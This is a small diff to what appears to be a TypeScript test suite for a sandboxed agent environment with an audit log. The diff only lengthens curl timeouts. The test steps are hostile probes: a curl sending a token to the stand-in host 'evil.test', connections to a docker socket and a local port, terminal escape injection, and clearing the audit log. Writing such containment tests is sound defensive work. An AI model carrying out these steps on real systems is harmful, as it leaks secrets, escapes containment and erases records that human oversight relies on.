@@ -50,7 +50,7 @@ function checkRefused(events: readonly Record_[]): void {
 function steps(root: string): Step[] {
   const log = `${root}/home/.aenv/audit`;
   return [
-    { bash: "curl -sS -m 5 'http://evil.test/path?token=hidden'; exit 1" },
+    { bash: "curl -sS -m 30 'http://evil.test/path?token=hidden'; exit 1" },
     { bash: connectTo("AF_UNIX", `"${root}/docker.sock"`) },
     { bash: connectTo("AF_INET", '("127.0.0.1", 1)') },
     {
@@ -67,7 +67,7 @@ function steps(root: string): Step[] {
     { bash: `printf '%s' "$(printf 'a\\033]0;b\\nc')" > name; exit 0` },
     {
       bash:
-        "curl -sS -m 5 --proxy-header 'X: hidden' \"http://$(printf 'a\\033b')/\"; exit 1",
+        "curl -sS -m 30 --proxy-header 'X: hidden' \"http://$(printf 'a\\033b')/\"; exit 1",
     },
     { bash: "aenv audit; aenv audit clear --yes; exit 1" },
     ...refusedSteps(root),
